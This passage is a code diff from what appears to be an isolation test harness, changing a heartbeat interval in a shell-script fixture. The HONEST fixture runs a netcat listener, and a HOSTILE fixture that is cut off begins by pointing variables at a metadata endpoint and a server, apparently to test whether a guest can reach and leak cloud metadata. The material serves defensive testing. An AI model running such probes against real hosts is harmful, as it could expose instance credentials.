@@ -51,7 +51,7 @@ PRIVATE_DEVICES = {1: "network", 2: "disk", 4: "random numbers", 5: "memory ball
 HONEST = b"""#!/bin/sh
 # SECRET
 while :; do echo REACHED | nc -l -p 9999; done &
-while :; do put heartbeat "$(cut -d' ' -f1 /proc/uptime)" >/dev/null; sleep 1; done
+while :; do put heartbeat "$(cut -d' ' -f1 /proc/uptime)" >/dev/null; sleep 5; done
 """.replace(b"SECRET", SECRET.encode())
 HOSTILE = r"""#!/bin/sh
 M=http://METADATA F=http://SERVER
